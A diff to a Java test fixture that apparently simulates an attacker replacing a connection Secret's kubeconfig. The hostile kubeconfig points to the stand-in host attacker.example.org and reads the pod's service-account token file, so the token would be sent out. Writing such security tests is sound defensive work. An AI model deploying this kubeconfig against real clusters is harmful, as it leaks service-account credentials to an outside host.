@@ -32,6 +32,14 @@ public final class World {
     public static final String ADMIN_KEY = Base64.getEncoder()
             .encodeToString("the key of the planet's administrator, kept secret".getBytes(StandardCharsets.UTF_8));
 
+    /** A kubeconfig by which a provider would send its own token to a stranger. */
+    private static final byte[] WEAPON = """
+            current-context: my
+            contexts: [{name: my, context: {cluster: my, user: my}}]
+            clusters: [{name: my, cluster: {server: "https://attacker.example.org"}}]
+            users: [{name: my, user: {tokenFile: /var/run/secrets/kubernetes.io/serviceaccount/token}}]
+            """.getBytes(StandardCharsets.UTF_8);
+
     /** A platform team that allows what the tests ask for. */
     private static final String INPUT = """
             apiVersion: moonlander.fn.kingdon.ci/v1beta1
@@ -243,6 +251,12 @@ public final class World {
     /** A composed resource's connection Secret goes. */
     public void loseDetails(String name) {
         details.remove(name);
+    }
+
+    /** Whoever may write the Secret that a connection detail is read from puts a kubeconfig there that names a file. */
+    public void replaceDetails(String name) {
+        details.computeIfPresent(
+                name, (_, before) -> before.containsKey("kubeconfig") ? Map.of("kubeconfig", WEAPON) : before);
     }
 
     /** Somebody deletes a composed resource. */
